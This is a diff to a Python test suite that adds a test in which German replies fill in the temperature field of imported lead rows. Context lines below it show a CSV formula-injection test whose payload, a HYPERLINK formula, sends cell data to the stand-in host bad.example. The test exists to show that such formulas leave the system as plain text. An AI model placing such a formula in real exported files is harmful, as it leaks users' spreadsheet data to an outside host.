@@ -293,6 +293,30 @@ def test_vera_completes_and_releases_rows_by_replies_to_the_report(incoming: Inc
 
 
 @pytest.mark.rule("3.2")
+@pytest.mark.rule("2", "3.1")
+@pytest.mark.parametrize(
+    ("words", "expected"),
+    [
+        ("L-2 kalt", [None, "cold", None]),
+        ("L-1 warm, L-2 kalt\nL-3 heiß", ["warm", "cold", "hot"]),
+        ("L-1: warm\nL-3: heiß", ["warm", None, "hot"]),
+        ("1 warm, 3 heiß", ["warm", None, "hot"]),
+    ],
+)
+def test_rows_are_completed_by_naming_them_one_or_several(
+    incoming: Incoming, words: str, expected: list[str | None]
+) -> None:
+    """As it was: *L-315 warm*, the one thing that was missing, brought the question which lead was meant."""
+    sends_lists(incoming, messe__csv=as_csv(*(a_row(number, Temperatur="") for number in (1, 2, 3))))
+    numbers = {int(row.lead_ref[2:]): place for place, row in enumerate(report_to(incoming).imported)}
+    if words.startswith("1 "):
+        expected = [expected[numbers[number]] for number in (1, 2, 3)]
+
+    incoming.arrives(a_mail(VERA, words, subject="Re: Liste"), reply_to(incoming.key_of("vera", "import_report")))
+
+    assert [lead.fields.get("temperature") for lead in incoming.leads()] == expected
+
+
 def test_a_formula_is_text_and_leaves_us_as_text(incoming: Incoming) -> None:
     """Seen failing without the mark in front: a spreadsheet that opened the attached file would have run it."""
     formula = '=HYPERLINK("http://bad.example"&A1,"x")'
